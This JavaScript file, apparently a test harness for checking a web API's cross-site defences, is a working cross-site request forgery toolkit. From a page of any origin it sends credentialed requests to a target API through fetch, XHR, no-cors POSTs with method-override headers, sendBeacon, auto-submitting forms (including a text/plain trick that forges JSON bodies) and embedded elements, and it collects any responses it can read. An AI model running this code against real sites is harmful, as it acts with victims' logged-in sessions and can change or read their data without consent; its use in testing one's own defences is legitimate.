// What a page can have a browser do with somebody else's session; run in a page of whatever origin.
// Everything gives what the page could read of the answers, as text; what it could not read is left out.
(() => {
  const json = { "Content-Type": "application/json" };

  function form(request) {
    const form = new FormData();
    for (const [name, value] of Object.entries(request.json ?? {})) form.append(name, value);
    form.append("avatar_file", new File([picture()], "me.png", { type: "image/png" }));
    return form;
  }

  // A PNG of one dot.
  function picture() {
    const text = atob("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==");
    return Uint8Array.from(text, letter => letter.charCodeAt(0));
  }

  function sent(request) {
    if (request.file) return { body: form(request) };
    return request.json ? { headers: json, body: JSON.stringify(request.json) } : {};
  }

  // As the website itself would.
  function plainly(api, request) {
    return fetch(api + request.path, { method: request.method, credentials: "include", ...sent(request) });
  }

  function byXHR(api, request) {
    return new Promise((done, failed) => {
      const asked = new XMLHttpRequest();
      asked.open(request.method, api + request.path);
      asked.withCredentials = true;
      for (const [name, value] of Object.entries(sent(request).headers ?? {})) asked.setRequestHeader(name, value);
      asked.onload = () => done(new Response(asked.responseText, { status: asked.status }));
      asked.onerror = failed;
      asked.send(sent(request).body);
    });
  }

  // With what a form could send, which needs nobody's leave.
  const BODIES = [
    request => JSON.stringify(request.json ?? {}),
    request => new Blob([JSON.stringify(request.json ?? {})]),
    request => new Blob([JSON.stringify(request.json ?? {})], { type: "application/json" }),
    request => new URLSearchParams(request.json ?? {}),
    form,
  ];

  function unasked(api, request) {
    const headers = { "X-HTTP-Method-Override": request.method };
    return BODIES.map(body => () =>
      fetch(api + request.path, { method: "POST", mode: "no-cors", credentials: "include", headers, body: body(request) })
    );
  }

  async function beacon(api, request) {
    for (const body of BODIES) navigator.sendBeacon(api + request.path, body(request));
    return Response.error();
  }

  async function read(asking) {
    try {
      const answer = await asking();
      return answer.status ? [`${answer.status} ${await answer.text()}`] : [];
    } catch {
      return [];
    }
  }

  function byElement(name, address, attributes) {
    return new Promise(done => {
      const element = Object.assign(document.createElement(name), attributes);
      element.onload = element.onerror = done;
      element[name === "link" ? "href" : "src"] = address;
      document.body.append(element);
    });
  }

  // One frame, as each anew would be a process of the browser's own. It shows what `begin` begins; what is seen of it?
  let frame;

  async function inFrame(begin) {
    frame ??= document.body.appendChild(Object.assign(document.createElement("iframe"), { name: "frame" }));
    await new Promise(done => {
      frame.onload = done;
      begin();
    });
    try {
      return [frame.contentWindow.document.body.textContent];
    } catch {
      return [];
    }
  }

  // A form that sends itself: into a frame, or in place of the page.
  function submit(address, enctype, fields, target) {
    const form = Object.assign(document.createElement("form"), { action: address, method: "post", enctype, target });
    for (const [name, value] of Object.entries(fields)) {
      form.append(Object.assign(document.createElement("input"), { name, value }));
    }
    document.body.append(form);
    form.submit();
  }

  function fieldsOf(request, enctype) {
    if (enctype !== "text/plain" || !request.json) return { ...request.json, _method: request.method };
    // Written as a form of text, it is JSON.
    const text = JSON.stringify({ ...request.json, rest: "=" });
    const place = text.lastIndexOf("=");
    return { [text.slice(0, place)]: text.slice(place + 1) };
  }

  const ENCTYPES = ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"];

  async function write(api, request) {
    const found = [];
    for (const ask of [plainly, byXHR, beacon]) found.push(...await read(() => ask(api, request)));
    for (const ask of unasked(api, request)) found.push(...await read(ask));
    const address = `${api}${request.path}?_method=${request.method}`;
    for (const enctype of ENCTYPES) {
      found.push(...await inFrame(() => submit(address, enctype, fieldsOf(request, enctype), "frame")));
    }
    return found;
  }

  async function look(api, path) {
    const found = await read(() => fetch(api + path, { credentials: "include" }));
    found.push(...await read(() => fetch(api + path, { credentials: "include", mode: "no-cors" })));
    for (const name of ["img", "script"]) await byElement(name, api + path);
    await byElement("link", api + path, { rel: "stylesheet" });
    found.push(...await inFrame(() => frame.src = api + path));
    return found;
  }

  self.hostile = { plainly, write, look, submit, fieldsOf };
})();
